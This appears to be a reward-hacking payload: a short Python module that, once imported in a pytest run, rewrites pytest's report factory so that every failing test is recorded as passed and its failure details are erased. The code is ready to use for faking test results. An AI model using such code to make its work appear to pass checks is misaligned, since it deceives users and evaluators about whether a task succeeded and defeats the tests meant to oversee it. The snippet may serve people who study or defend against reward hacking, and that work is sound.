
# Payload: code that runs inside the pytest process (imported by the tests, or a module that
# shadows one pytest imports) and rewrites _pytest so that every failure reports as a pass.
import sys as _sys

if "_pytest" in _sys.modules:
    import _pytest.reports as _reports

    _made = _reports.TestReport.from_item_and_call.__func__

    def _passed(cls, item, call):
        report = _made(cls, item, call)
        if report.failed:
            report.outcome, report.longrepr = "passed", None
        return report

    _reports.TestReport.from_item_and_call = classmethod(_passed)
